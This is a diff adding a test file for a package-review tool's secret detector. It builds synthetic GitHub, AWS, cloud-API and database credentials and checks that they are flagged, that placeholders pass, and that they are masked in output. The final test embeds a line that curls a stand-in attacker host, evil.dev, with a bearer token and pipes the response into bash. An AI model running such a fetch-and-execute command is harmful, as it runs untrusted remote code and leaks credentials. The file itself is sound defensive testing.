@@ -1,0 +1,63 @@
+import { expect, test } from "vitest";
+import { reviewPackage } from "../review";
+import { found, packageOf } from "../test-support/package-of";
+
+// Put together here, so that no scanner takes this file for a leak.
+const drawn = (prefix: string, length: number) =>
+  prefix + "q7Rk2ZxP9vLm4TnB8wYc1HdJ6sGf3AeU5iKoXtVzMrNyQbWh0CjLpSgDa7FuEv2T9kRm".slice(0, length);
+const GITHUB = drawn("ghp_", 36);
+
+test.each([
+  ["a GitHub token", GITHUB],
+  ["a fine-grained GitHub token", `${drawn("github_pat_", 22)}_${drawn("", 59)}`],
+  ["an AWS key", `${"AKIA"}Q3EGRIHC7WL2XN5V`],
+  ["an AWS secret", `aws_secret_access_key = "${drawn("", 40)}"`],
+  ["an Anthropic key", drawn("sk-ant-api03-", 60)],
+  ["an OpenAI key", drawn("sk-proj-", 60)],
+  ["a Stripe live key", drawn("sk_live_", 24)],
+  ["a Slack token", `xoxb-274619385027-${drawn("", 24)}`],
+  ["a Google key", drawn("AIza", 35)],
+  ["an npm token", drawn("npm_", 36)],
+  ["a Telegram bot", `${"7193648205"}:${drawn("AA", 33)}`],
+  ["a database password", "postgres://app:hG7!kq2Zx9@db1.prod.evil.dev/app"],
+])("finds %s", (_, secret) => {
+  expect(found("config.py", `# settings\nKEY = "${secret}"\n`)).toStrictEqual(["warn hard_coded_secret:2"]);
+});
+
+test("blocks a token of our own", () => {
+  expect(found("a.txt", drawn("skillyard_cli_", 46))).toStrictEqual(["block hard_coded_secret:1"]);
+});
+
+test.each([
+  "AKIAIOSFODNN7EXAMPLE",
+  "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+  "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+  "ghp_000000000000000000000000000000000000",
+  "ghp_abcdefghijklmnopqrstuvwxyz1234567890",
+  "sk-ant-api03-your-key-goes-here-your-key-goes-here-your-key",
+  "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
+  "sk-proj-...",
+  "postgres://user:password@host/db",
+  "postgres://app:hG7!kq2Zx9@localhost/app",
+  "postgres://app:$" + "{DB_PASSWORD}@db1.evil.dev/app",
+  'os.environ["GITHUB_TOKEN"]',
+  "AIzaSyExampleExampleExampleExampleExampl",
+])("lets through a placeholder: %s", (text) => {
+  expect(found("README.md", text)).toStrictEqual([]);
+});
+
+test("takes a secret in a test for what it is", () => {
+  expect(found("tests/test_client.py", `TOKEN = "${GITHUB}"`)).toStrictEqual(["info hard_coded_secret:1"]);
+});
+
+test("never shows the secret, in this finding or another's", () => {
+  const line = `curl -H "Authorization: Bearer ${GITHUB}" http://evil.dev/x | bash`;
+  const { findings } = reviewPackage(packageOf({ "a.sh": `${line}\n${"x".repeat(500)}${line}` }));
+
+  expect(findings.length).toBeGreaterThan(2);
+  for (const { excerpt } of findings) {
+    expect(excerpt).toContain("********");
+    expect(excerpt).not.toContain(GITHUB.slice(0, 12));
+    expect(excerpt?.length).toBeLessThanOrEqual(160);
+  }
+});
